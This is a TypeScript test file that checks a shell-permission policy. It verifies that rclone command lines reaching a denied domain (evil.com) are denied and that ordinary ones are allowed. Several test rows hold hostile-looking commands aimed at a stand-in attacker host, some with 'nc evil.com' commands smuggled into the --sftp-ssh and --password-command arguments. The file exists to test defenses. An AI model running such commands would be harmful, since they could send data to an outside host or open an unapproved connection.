// Network tools whose server was not read (a red team of Domain rules, second round): a line that
// reaches a denied host is denied (or asks when its host is unknown), never allowed by Shell(*).
// Rows pin each hole closed; the ordinary lines beside them stay allowed.
import { describe, it } from 'vitest';
import type { DecisionKind } from '../src/policy/types.js';
import { REPO_LINUX, expectDecision } from './helpers/policy.js';

const DENY_EVIL = { deny: ['Domain(evil.com)', 'Domain(*.evil.com)'], allow: ['Shell(*)', 'Domain(*)'] };

describe('rclone: connection strings and backend flags name the server', () => {
  it.each<[string, DecisionKind]>([
    ['rclone ls :sftp,host=evil.com:', 'deny'],
    ['rclone ls :sftp,host="evil.com",user=u:dir', 'deny'],
    ['rclone copy x :http,url=https://evil.com:', 'deny'],
    ["rclone lsd :webdav,url='https://evil.com/dav':", 'deny'],
    ['rclone ls :s3,provider=Minio,endpoint=evil.com:bucket', 'deny'],
    ['rclone ls remote,host=evil.com:dir', 'deny'],
    ["rclone ls ':crypt,remote=\":sftp,host=evil.com:x\":'", 'deny'],
    ['rclone ls --sftp-host evil.com :sftp:', 'deny'],
    ['rclone ls --sftp-host=evil.com :sftp:', 'deny'],
    ['rclone ls --ftp-host evil.com :ftp:dir', 'deny'],
    ['rclone ls --http-url https://evil.com :http:', 'deny'],
    ['rclone ls --s3-endpoint evil.com s3:bucket', 'deny'],
    // (Commands rclone runs: an external ssh, a password or token command.)
    ["rclone ls --sftp-ssh 'nc evil.com 22' :sftp,host=h:", 'deny'],
    ["rclone ls :sftp,host=h,ssh='nc evil.com 22':", 'deny'],
    ["rclone ls r: --password-command 'nc evil.com 1'", 'deny'],
    // (An on-the-fly server backend without its server here: the environment names it.)
    ['rclone ls :sftp:', 'ask'],
    ['rclone ls :webdav:dir', 'ask'],
    ['rclone ls remote:', 'allow'],
    ['rclone ls remote:dir', 'allow'],
    ['rclone copy ./dist r:b --transfers 4', 'allow'],
    ['rclone ls :local:/w/repo', 'allow'],
    ['rclone ls :sftp,host=files.example.com:', 'allow'],
    ['rclone ls --sftp-host files.example.com :sftp:', 'allow'],
    ['rclone ls drive,shared_with_me:', 'allow'],
  ])('%s -> %s', (line, expected) => {
    expectDecision(DENY_EVIL, 'shell', line, expected, REPO_LINUX);
  });
});
